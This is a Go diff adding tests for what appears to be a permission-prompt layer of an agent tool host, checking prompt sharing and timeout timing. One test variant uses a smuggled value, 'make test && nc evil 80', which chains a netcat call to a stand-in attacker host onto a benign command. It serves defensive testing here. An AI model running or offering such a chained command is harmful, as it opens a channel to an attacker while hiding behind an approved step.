@@ -170,3 +170,73 @@ func TestHostDisconnectFails(t *testing.T) {
 		t.Fatal("Ask did not return after the host closed the connection")
 	}
 }
+
+// Calls share a prompt only when everything the prompt shows, and the call
+// itself, are the same: look-alike asks (same gate, surface, value and
+// session patterns) with a different message, options or call each get
+// their own prompt.
+func TestLookAlikeAsksDoNotShare(t *testing.T) {
+	release := make(chan struct{})
+	h := &host{answer: func(protocol.PromptParams) (any, *jsonrpc2.Error) {
+		<-release
+		return map[string]any{"choice": "allow_once"}, nil
+	}}
+	p, _ := pair(t, h)
+	variants := []func(*protocol.PromptParams){
+		func(*protocol.PromptParams) {},
+		func(pp *protocol.PromptParams) { pp.Message = "read ~/.bashrc" },
+		func(pp *protocol.PromptParams) { pp.Message = "write ~/.bashrc" },
+		func(pp *protocol.PromptParams) { pp.Title = "Other" },
+		func(pp *protocol.PromptParams) { pp.Options = offered[:1] },
+		func(pp *protocol.PromptParams) { pp.Subject = "bash\x00{\"command\":\"make test && nc evil 80\"}" },
+		func(pp *protocol.PromptParams) { pp.Subject = "bash\x00{\"command\":\"make test\"}" },
+	}
+	var wg sync.WaitGroup
+	for _, v := range variants {
+		for range 2 { // each variant twice: the two copies share
+			pp := params("make test")
+			v(&pp)
+			wg.Add(1)
+			go func() { defer wg.Done(); _ = p.Ask(context.Background(), pp) }()
+		}
+	}
+	for h.count.Load() < int32(len(variants)) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	time.Sleep(100 * time.Millisecond) // a wrong extra prompt would arrive now
+	close(release)
+	wg.Wait()
+	if n := h.count.Load(); n != int32(len(variants)) {
+		t.Fatalf("the host got %d prompts, want %d (one per distinct ask)", n, len(variants))
+	}
+}
+
+// slowCaller delays writing each prompt until released, as a host that is
+// slow to read does.
+type slowCaller struct {
+	Caller
+	release chan struct{}
+}
+
+func (s slowCaller) DispatchCall(ctx context.Context, method string, params any, opts ...jsonrpc2.CallOption) (jsonrpc2.Waiter, error) {
+	<-s.release
+	return s.Caller.DispatchCall(ctx, method, params, opts...)
+}
+
+// The prompt timeout starts when the prompt is written, not before: time
+// spent waiting to write it is not taken from the person (issue 13.6).
+func TestTimeoutStartsWhenWritten(t *testing.T) {
+	h := &host{answer: func(protocol.PromptParams) (any, *jsonrpc2.Error) { return map[string]any{"choice": "allow_once"}, nil }}
+	p, _ := pair(t, h)
+	release := make(chan struct{})
+	p.conn = slowCaller{Caller: p.conn, release: release}
+	pp := params("make deploy")
+	pp.TimeoutMs = 300
+	done := make(chan gates.Answer)
+	go func() { done <- p.Ask(context.Background(), pp) }()
+	time.Sleep(time.Second) // far past the timeout, still not written
+	close(release)
+	if ans := <-done; ans.Failed != "" || ans.Choice != "allow_once" {
+		t.Fatalf("answer = %+v, want allow_once: the timeout ran before the prompt was written", ans)
+	}
+}
